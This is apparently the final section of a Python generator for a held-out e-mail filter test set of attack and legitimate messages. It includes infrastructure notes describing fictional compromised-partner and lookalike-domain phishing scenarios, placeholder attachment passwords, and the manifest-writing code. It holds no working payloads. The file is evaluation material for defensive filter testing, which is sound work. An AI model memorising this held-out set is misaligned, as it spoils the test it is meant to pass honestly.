            '<p><b>Πέμπτη 17 Δεκεμβρίου 2026, 17:00</b>, αμφιθέατρο του Επιμελητηρίου και διαδικτυακά.</p>'
            '<p><a href="https://www.pcci.gr/ekdiloseis/e-timologisi-2027?utm_source=newsletter">Δηλώστε συμμετοχή</a></p>'
            '<p style="font-size:11px;color:#888">Λαμβάνετε αυτό το μήνυμα ως μέλος του Επιμελητηρίου. '
            '<a href="https://www.pcci.gr/newsletter/unsubscribe?id=%s">Διαγραφή</a></p></body></html>' % hx("pc", n=12))
    emit("business", "40-el-chamber-event-newsletter.eml",
         "Member newsletter from the Piraeus chamber of commerce inviting to an e-invoicing event (windows-1253, base64).",
         client=("mail.pcci.gr", "mail.pcci.gr", "194.219.190.12"), rcpt=rc, t=t, rp="newsletter@pcci.gr", tls="1.2",
         hdrs=[("From", A("Επιμελητήριο Πειραιά", "newsletter@pcci.gr", "windows-1253", csname="windows-1253")), ("To", rc),
               ("Subject", ew("Πρόσκληση: Ηλεκτρονική τιμολόγηση B2B – εκδήλωση 17/12", "windows-1253", csname="windows-1253")),
               ("Message-ID", "<%s@pcci.gr>" % hx("b40m", n=24)),
               ("List-Unsubscribe", "<https://www.pcci.gr/newsletter/unsubscribe?id=%s>" % hx("pc", n=12)), ("Precedence", "bulk")],
         body=HTML(html, cs="windows-1253", csname="windows-1253", cte="base64"))

# ================================================================= main ==

INFRA = """\
## Infrastructure notes

* **Inbound MX / filter:** `mx01.example.com` (Postfix). Every message starts with `Return-Path` followed by the
  Received header stamped by mx01: `from <HELO> (<rDNS or "unknown"> [<IP>]) by mx01.example.com (Postfix) with
  ESMTP(S) id ... for <envelope recipient>; <date> +0100 (CET)`. TLS details are included where the client used TLS.
* **Internal mail:** mailboxes live on on-prem Exchange 2019 (`EXMBX01.corp.example.com` 10.20.1.21,
  `EXMBX02.corp.example.com` 10.20.1.22). Mail between colleagues (including from Outlook mobile and OWA) is handed to
  the internal relay `mail-int01.example.com` (10.20.0.25, Postfix), which passes it to mx01 for filtering. Such
  messages therefore arrive with the top Received `from mail-int01.example.com (mail-int01.example.com [10.20.0.25])`.
  Internal Exchange headers (`X-MS-Exchange-Organization-AuthAs: Internal`, Thread-Index, etc.) are present.
* **Shared mailboxes / lists:** `info@example.com` (general inbox, read by the CEO assistant),
  `kreditoren@example.com` (accounts payable, Sabine Krüger), `alle-de@example.com` (all German staff, expanded by
  Exchange before relaying), `it-service@example.com` (IT service desk, Jonas Becker).
* **Partners' real sending infrastructure** (for legitimate mail and for their genuinely compromised mailboxes):
  * lieferant-gmbh.de – IONOS: `mout.kundenserver.de` 212.227.126.130–137, submission via `mrelayeu.kundenserver.de`;
    office static IP 93.240.17.66.
  * ferretti-trasporti.it – Aruba: `smtpdh15..18-1.aruba.it` 62.149.155.165–168 ("Aruba Outgoing Smtp"); office IP 151.38.112.45.
  * partner-logistik.pl – Microsoft 365 (tenant 3b1d7f0e-6a2c-4f4e-9d11-0c5e7a2b9f41) via
    `*.outbound.protection.outlook.com` 40.107.104.0/24.
* **Compromised-partner cases:** attack 09 (p.lang@lieferant-gmbh.de: IONOS authenticated submission from a Tor exit
  185.220.101.47), attack 25 (amministrazione@ferretti-trasporti.it: Aruba webmail login from 102.89.34.117, Reply-To
  to a lookalike domain), attack 34 (ksiegowosc@partner-logistik.pl: genuine M365 tenant, HTML-attachment phish).
  Lookalike (not compromised) partner domains: lieferant-gmbh.de.com (attack 07).
* **Not included on purpose:** Authentication-Results (the filter does its own checks). DKIM-Signature / ARC headers
  are also omitted because valid signatures cannot be produced for these messages; SPF/DKIM/DMARC for the
  third-party domains must therefore be judged from the Received chain/IPs, not from signatures.
* **Attachments** are harmless placeholders: PDFs, OOXML (docx/xlsx), ZIPs (incl. ZipCrypto-encrypted ones: attack 10
  password `LH2026`, business 13 password `Lt7#vQ2m`), one RC4-40 encrypted PDF (business 14, user password
  `7705012311`), SVG/HTML files, PNG images, iCalendar files, XML e-invoices and a structurally valid but signer-less
  PKCS#7 `smime.p7s`. Executables/scripts inside archives are plain-text placeholders describing the original payload.
  QR codes are QR-looking images and are not decodable; the intended target is described in the MANIFEST line.
* **Dates:** 2026-11-30 (Mon) to 2026-12-05 (Sat). Sender-side Date headers use the sender's time zone.
* **Charsets used:** UTF-8, US-ASCII, ISO-8859-1/-2/-7/-15, windows-1250/-1251/-1252/-1253, KOI8-R; bodies in
  7bit, 8bit, quoted-printable and base64; RFC 2047 B/Q encoded words; RFC 2231 file names.
* Build: `python3 gen/build.py` (stdlib only, deterministic; re-running yields byte-identical files).
"""


def write_all():
    for f in ("attack", "business"):
        d = os.path.join(OUT, f)
        os.makedirs(d, exist_ok=True)
        for x in os.listdir(d):
            if x.endswith(".eml"):
                os.remove(os.path.join(d, x))
    for folder, fname, desc, data in MSGS:
        assert b"\n" not in data.replace(b"\r\n", b""), fname
        with open(os.path.join(OUT, folder, fname), "wb") as fh:
            fh.write(data)
    with open(os.path.join(OUT, "staff.txt"), "w", encoding="utf-8", newline="\n") as fh:
        for _k, n, e, _o, _r in STAFF:
            fh.write("%s=%s\n" % (n, e))
    L = ["# audit21 – blind held-out e-mail test set (Example Group)", "",
         "Company: Example Group (example.com, examplegroup.eu), ~700 mailboxes; HQ Hamburg (DE), offices in Milano (IT), "
         "Poznań (PL), Piraeus (GR), Valencia (ES), London (UK), Moscow (RU).", "",
         "* `attack/` – 40 messages that should NOT be delivered plainly to the inbox.",
         "* `business/` – 40 legitimate messages that a filter could mistake for hostile.", "",
         "## Staff", "", "| Display name | Address | Office | Role |", "|---|---|---|---|"]
    for _k, n, e, o, r in STAFF:
        L.append("| %s | %s | %s | %s |" % (n, e, o, r))
    L += ["", "External correspondents (real partners): s.maier@lieferant-gmbh.de, p.lang@lieferant-gmbh.de, "
          "rechnungen@lieferant-gmbh.de (German supplier); c.colombo@ferretti-trasporti.it, amministrazione@ferretti-trasporti.it "
          "(Italian haulier); t.zielinski@partner-logistik.pl, ksiegowosc@partner-logistik.pl (Polish logistics partner).", ""]
    for folder in ("attack", "business"):
        L += ["## %s/" % folder, ""]
        for f2, fname, desc, _d in sorted(x for x in MSGS if x[0] == folder):
            L.append("* `%s` – %s" % (fname, desc))
        L.append("")
    L.append(INFRA)
    with open(os.path.join(OUT, "MANIFEST.md"), "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(L))


def main():
    attack_en(); attack_de(); attack_ru(); attack_es(); attack_it(); attack_pl(); attack_el()
    business_en(); business_de(); business_ru(); business_es(); business_it(); business_pl(); business_el()
    names = [m[1] for m in MSGS]
    assert len(names) == len(set(names)), "duplicate file names"
    write_all()
    print("attack=%d business=%d" % (sum(1 for m in MSGS if m[0] == "attack"), sum(1 for m in MSGS if m[0] == "business")))


if __name__ == "__main__":
    main()
